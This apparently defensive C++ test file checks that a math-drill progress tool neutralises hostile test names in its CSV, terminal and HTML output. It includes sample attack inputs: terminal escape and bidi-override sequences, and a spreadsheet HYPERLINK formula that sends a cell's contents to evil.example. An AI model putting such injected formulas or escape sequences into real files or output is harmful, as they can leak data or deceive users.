// Tests of the built mathdrill-progress as a process, on logs whose names
// were chosen to attack or mislead whoever reads its output: formulas that
// a spreadsheet would evaluate from --csv, escape sequences and bidi
// overrides that would reach the terminal, bytes that are not UTF-8, and
// wide and combining characters that would skew the table's columns. Every
// run is in a fresh TempDir and within a time bound.
#include <gtest/gtest.h>

#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "tests/support/child_process.h"
#include "tests/support/transcript.h"

namespace {

using testing_support::BlockFacts;
using testing_support::ChildOptions;
using testing_support::Exit;
using testing_support::Millis;
using testing_support::TempDir;

// Names that hold terminal escapes, controls, overrides and stray bytes.
const std::vector<std::string> kHostileNames = {
    "\x1b]0;owned\x07",  // sets the terminal's title
    "\x1b[31mRed",       // colours the terminal
    "\302\23331mC1",     // U+009B, the 8-bit CSI, encoded, then "31mC1"
    "\23331mRaw",        // the same as a raw byte 0x9B
    "\xc2\x85Next",      // U+0085, next line
    "\xe2\x80\xaeZed",   // U+202E, right-to-left override
    "\xe2\x81\xa6Iso",   // U+2066, left-to-right isolate
    "Bad\xff\xfe",       // not UTF-8
    "Cut\xe2\x82",       // a cut sequence
    "\177Del",           // DEL
};

struct RunOutput {
  int status = -1;
  std::string out;
  std::string errors;
};

// A log in `dir` of one test for each of `names`, in that order.
std::string write_log(const TempDir& dir, const std::vector<std::string>& names) {
  std::string log;
  for (const std::string& name : names) log += BlockFacts{.name = name}.text();
  const std::string path = dir.file("records.txt");
  testing_support::write_file(path, log);
  return path;
}

// Runs mathdrill-progress with `args` to its end, its output on pipes.
RunOutput run_progress(const TempDir& dir, const std::vector<std::string>& args) {
  ChildOptions options;
  options.argv = {PROGRESS_PATH};
  options.argv.insert(options.argv.end(), args.begin(), args.end());
  options.directory = dir.path();
  RunOutput result;
  const Exit exit =
      testing_support::run_to_end(options, "", &result.out, &result.errors, Millis(10000));
  EXPECT_TRUE(exit.exited && !exit.timed_out);
  result.status = exit.status;
  return result;
}

// The offset of the first thing in `text` that must not reach a terminal
// or a spreadsheet, or npos when there is none: a C0 control other than a
// line end (LF or CR LF), DEL, a C1 control (encoded, or a byte
// 0x80..0x9F outside a character), a bidi override or isolate
// (U+202A..U+202E, U+2066..U+2069), or bytes that are not UTF-8.
std::size_t first_unsafe(std::string_view text) {
  std::size_t at = 0;
  while (at < text.size()) {
    const auto lead = static_cast<unsigned char>(text[at]);
    if (lead == '\n' || (lead == '\r' && at + 1 < text.size() && text[at + 1] == '\n')) {
      ++at;
      continue;
    }
    if (lead < 0x20 || lead == 0x7F) return at;
    if (lead < 0x80) {
      ++at;
      continue;
    }
    const std::size_t length = lead >= 0xF0 ? 4 : lead >= 0xE0 ? 3 : lead >= 0xC0 ? 2 : 0;
    if (length == 0 || lead > 0xF4 || at + length > text.size()) return at;
    std::uint32_t code_point = lead & (0x7Fu >> length);
    for (std::size_t i = 1; i < length; ++i) {
      const auto next = static_cast<unsigned char>(text[at + i]);
      if ((next & 0xC0) != 0x80) return at;
      code_point = (code_point << 6) | (next & 0x3Fu);
    }
    const std::uint32_t least[] = {0, 0, 0x80, 0x800, 0x10000};
    if (code_point < least[length] || code_point > 0x10FFFF ||
        (code_point >= 0xD800 && code_point <= 0xDFFF) || code_point <= 0x9F ||
        (code_point >= 0x202A && code_point <= 0x202E) ||
        (code_point >= 0x2066 && code_point <= 0x2069)) {
      return at;
    }
    at += length;
  }
  return std::string_view::npos;
}

// The records of RFC 4180 CSV text with CR LF line ends, each a list of
// its fields with quotes undone.
std::vector<std::vector<std::string>> csv_records(std::string_view text) {
  std::vector<std::vector<std::string>> records;
  std::size_t at = 0;
  while (at < text.size()) {
    std::vector<std::string>& record = records.emplace_back();
    for (;;) {
      std::string& field = record.emplace_back();
      if (at < text.size() && text[at] == '"') {
        ++at;
        while (at < text.size()) {
          if (text[at] == '"') {
            if (text.substr(at, 2) != "\"\"") break;
            ++at;  // the first of a doubled quote
          }
          field.push_back(text[at++]);
        }
        ++at;  // the closing quote
      }
      while (at < text.size() && text[at] != ',' && text[at] != '\r') field.push_back(text[at++]);
      if (at >= text.size() || text[at] == '\r') break;
      ++at;  // the comma
    }
    at += 2;  // CR LF
  }
  return records;
}

// Whether a spreadsheet reads `field` as a formula: it starts with one of
// the characters that start one and is not a number ("-5", "+3").
bool formula(std::string_view field) {
  if (field.empty() || field.find_first_of("=+-@\t\r") != 0) return false;
  if (field[0] == '=' || field[0] == '@' || field.size() == 1) return true;
  return field.find_first_not_of("0123456789.e+-", 1) != std::string_view::npos;
}

// The columns a name of these tests takes on a terminal.
struct ShownName {
  std::string name;   // as logged
  std::string shown;  // as the table shows it
  std::size_t width;  // in columns
};

// The number of spaces at the start of `text`.
std::size_t leading_spaces(std::string_view text) {
  const std::size_t first = text.find_first_not_of(' ');
  return first == std::string_view::npos ? text.size() : first;
}

// A name and its field in --csv.
struct CsvName {
  std::string name;
  std::string field;
};

TEST(ProgressCsvTest, NamesThatStartLikeFormulasAreReadAsText) {
  const CsvName cases[] = {
      {.name = "=1+1", .field = "'=1+1"},
      {.name = "+1+1", .field = "'+1+1"},
      {.name = "-1+1", .field = "'-1+1"},
      {.name = "@SUM(1,1)", .field = "'@SUM(1,1)"},
      {.name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
       .field = "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"},
      {.name = "-5", .field = "'-5"},
      {.name = "Ann-Marie=1", .field = "Ann-Marie=1"},
  };
  TempDir dir;
  std::string log;
  for (const CsvName& c : cases) log += BlockFacts{.name = c.name, .limit = "-5"}.text();
  testing_support::write_file(dir.file("records.txt"), log);
  const RunOutput result = run_progress(dir, {"--csv"});
  EXPECT_EQ(result.status, 0) << result.errors;
  const auto records = csv_records(result.out);
  ASSERT_EQ(records.size(), std::size(cases) + 1) << result.out;
  for (std::size_t i = 0; i < std::size(cases); ++i) {
    const std::vector<std::string>& record = records[i + 1];
    ASSERT_EQ(record.size(), 11u) << result.out;
    EXPECT_EQ(record[2], cases[i].field);
    EXPECT_EQ(record[3], "-5") << "numbers are written as they are";
    for (const std::string& field : record) EXPECT_FALSE(formula(field)) << field;
  }
}

TEST(ProgressCsvTest, NoEscapeSequenceOrControlReachesTheTerminal) {
  TempDir dir;
  write_log(dir, kHostileNames);
  const RunOutput result = run_progress(dir, {"--csv"});
  EXPECT_EQ(result.status, 0) << result.errors;
  EXPECT_EQ(first_unsafe(result.out), std::string::npos) << result.out;
  const auto records = csv_records(result.out);
  ASSERT_EQ(records.size(), kHostileNames.size() + 1) << result.out;
  EXPECT_EQ(records[1][2], "?]0;owned?");
  EXPECT_EQ(records[2][2], "?[31mRed");
  EXPECT_EQ(records[3][2], "?31mC1");
  EXPECT_EQ(records[4][2], "?31mRaw");
  EXPECT_EQ(records[6][2], "?Zed");
  EXPECT_EQ(records[8][2], "Bad\uFFFD\uFFFD");
}

TEST(ProgressTableTest, ShowsNoControlOrBidiCharacterFromNames) {
  TempDir dir;
  write_log(dir, kHostileNames);
  const RunOutput result = run_progress(dir, {});
  EXPECT_EQ(result.status, 0) << result.errors;
  EXPECT_EQ(first_unsafe(result.out), std::string::npos) << result.out;
  EXPECT_NE(result.out.find("\n?[31mRed "), std::string::npos) << result.out;
  EXPECT_NE(result.out.find("\n?Zed "), std::string::npos) << result.out;
  EXPECT_NE(result.out.find("\nBad\uFFFD\uFFFD "), std::string::npos) << result.out;
}

TEST(ProgressTableTest, ShowsNoControlOrBidiCharacterInMessages) {
  TempDir dir;
  write_log(dir, {"Ann"});
  for (const std::string& name : kHostileNames) {
    const RunOutput result = run_progress(dir, {"--child", name});
    EXPECT_EQ(result.status, 0);
    EXPECT_NE(result.errors, "");
    EXPECT_EQ(first_unsafe(result.errors), std::string::npos) << result.errors;
  }
}

TEST(ProgressTableTest, AlignsColumnsByTheirWidthOnTheTerminal) {
  const ShownName cases[] = {
      {.name = "Ann", .shown = "Ann", .width = 3},
      {.name = "李小龙", .shown = "李小龙", .width = 6},
      {.name = "Zoe\xcc\x88", .shown = "Zoe\xcc\x88", .width = 3},  // e, combining diaeresis
      {.name = "ＡＢ", .shown = "ＡＢ", .width = 4},                // fullwidth letters
      {.name = "Bad\xff", .shown = "Bad\uFFFD", .width = 4},
      {.name = "\xe2\x80\xaeZed", .shown = "?Zed", .width = 4},
  };
  TempDir dir;
  std::vector<std::string> names;
  for (const ShownName& c : cases) names.push_back(c.name);
  write_log(dir, names);
  const RunOutput result = run_progress(dir, {});
  EXPECT_EQ(result.status, 0) << result.errors;
  // Where the Operations column starts: its header is all ASCII.
  const std::size_t column = result.out.find("Operations");
  for (const ShownName& c : cases) {
    const std::size_t row = result.out.find("\n" + c.shown + " ");
    ASSERT_NE(row, std::string::npos) << c.shown << "\n" << result.out;
    const std::string_view rest = std::string_view(result.out).substr(row + 1 + c.shown.size());
    // Each name has one test of addition and subtraction.
    const std::size_t spaces = leading_spaces(rest);
    EXPECT_EQ(rest.substr(spaces, 2), "+-") << c.shown;
    EXPECT_EQ(c.width + spaces, column) << c.shown << "\n" << result.out;
  }
}

TEST(ProgressPageTest, ShowsNoControlOrBidiCharacterFromNames) {
  TempDir dir;
  write_log(dir, kHostileNames);
  const RunOutput result = run_progress(dir, {"--html", "page.html", "records.txt"});
  EXPECT_EQ(result.status, 0) << result.errors;
  const std::string page = testing_support::read_file(dir.file("page.html"));
  ASSERT_NE(page, "");
  EXPECT_EQ(first_unsafe(page), std::string::npos) << page;
  EXPECT_EQ(first_unsafe(result.out), std::string::npos) << result.out;
}

}  // namespace
